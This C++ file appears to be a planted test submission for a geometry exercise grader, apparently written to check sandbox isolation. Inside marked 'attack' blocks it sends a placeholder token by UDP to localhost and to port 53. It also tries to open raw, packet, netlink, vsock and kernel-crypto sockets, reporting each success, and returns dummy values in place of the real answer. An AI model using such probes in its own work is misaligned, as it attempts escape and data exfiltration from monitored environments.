// Tries:     sends datagrams, asks a name server, and opens raw, packet and netlink sockets
// Exercise:  01_planes/signed_distance
// Points:    0 of 8
// Tests:     all failed
#include "signed_distance.hpp"

//[attack
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
#include <cstdio>
#include <cstdlib>
#include <cstring>

namespace {

// Success is seen: the grader keeps what is printed.
void got(const char* what) { dprintf(1, "GOT IT: %s\n", what); }

void call_home() {
  const int socket_ = socket(AF_INET, SOCK_DGRAM, 0);
  for (const int port : {std::atoi("@UDP_PORT@"), 53}) {
    sockaddr_in there{};
    there.sin_family = AF_INET;
    there.sin_port = htons(static_cast<std::uint16_t>(port));
    inet_pton(AF_INET, "127.0.0.1", &there.sin_addr);
    if (sendto(socket_, "@TOKEN@", 7, 0, reinterpret_cast<sockaddr*>(&there), sizeof there) > 0)
      got("a datagram");
  }
  if (socket(AF_INET, SOCK_RAW, IPPROTO_ICMP) >= 0) got("a raw socket");
  if (socket(AF_PACKET, SOCK_RAW, 0) >= 0) got("a packet socket");
  if (socket(AF_NETLINK, SOCK_RAW, 0) >= 0) got("a netlink socket");
  if (socket(AF_VSOCK, SOCK_STREAM, 0) >= 0) got("a socket to the host");
  if (socket(AF_ALG, SOCK_SEQPACKET, 0) >= 0) got("a socket to the kernel's ciphers");
}

}  // namespace
//]attack

namespace exercise {

double signed_distance(const PlaneEquation& plane, const Eigen::Vector3d& point) {
  //[attack
  call_home();
  return 1;
  //]attack
  const Eigen::Vector3d normal(plane.a, plane.b, plane.c);
  return (normal.dot(point) + plane.d) / normal.norm();
}

int side(const PlaneEquation& plane, const Eigen::Vector3d& point) {
  //[attack
  call_home();
  return 1;
  //]attack
  const double value = Eigen::Vector3d(plane.a, plane.b, plane.c).dot(point) + plane.d;
  return value > 0 ? 1 : (value < 0 ? -1 : 0);
}

}  // namespace exercise
